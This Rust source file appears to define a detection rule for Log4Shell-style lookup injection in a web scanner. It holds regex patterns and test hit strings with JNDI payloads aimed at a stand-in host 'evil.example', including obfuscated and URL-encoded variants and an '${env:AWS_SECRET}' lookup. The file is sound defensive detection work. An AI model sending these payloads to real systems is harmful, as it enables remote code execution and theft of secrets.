//! Lookups that a logging library resolves (Log4Shell and its kin).

use super::super::rule::{ALL, Rule, Sign, View};
use crate::api::Severity;

pub(in super::super) static RULE: Rule = Rule {
    name: "web.lookup_injection",
    title: "Lookup injection",
    class: "lookup_injection",
    techniques: &["T1190", "T1059"],
    signs: &[
        Sign {
            name: "JNDI lookup",
            view: View::Lookup,
            parts: ALL,
            severity: Severity::Critical,
            confidence: 0.98,
            literals: &["jndi"],
            regex: r#"\$\{\s*jndi\s*:|jndi:(?:ldaps?|rmi|dns|iiop|corba|nis|nds|https?):"#,
            hits: &[
                "/?x=${jndi:ldap://evil.example/a}",
                "/?x=%24%7Bjndi%3Armi%3A//evil.example%7D",
                "/?x=${${lower:j}ndi:ldap://evil.example}",
                "/?x=${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example}",
            ],
            passes: &["/docs/jndi", "/search?q=jndi+tutorial"],
        },
        Sign {
            name: "lookup in a lookup",
            view: View::Plain,
            parts: ALL,
            severity: Severity::High,
            confidence: 0.95,
            literals: &["${"],
            regex: r#"\$\{[^{}]{0,60}\$\{[^{}]{0,30}(?::-|:)[^{}]{0,12}\}"#,
            hits: &["/?x=${${env:NaN:-j}xx}"],
            passes: &["/?x=${a}"],
        },
        Sign {
            name: "lookup of surroundings",
            view: View::Plain,
            parts: ALL,
            severity: Severity::High,
            confidence: 0.85,
            literals: &["${"],
            regex: r#"\$\{\s*(?:env|sys|ctx|java|main|docker|spring|web|script|url|dns|file|base64decoder|bundle|lower|upper|date|marker|sd|map|hostname|const|log4j|k8s|event|structured)\s*:"#,
            hits: &["/?x=${env:AWS_SECRET}"],
            passes: &["/?x=${environment}"],
        },
    ],
};
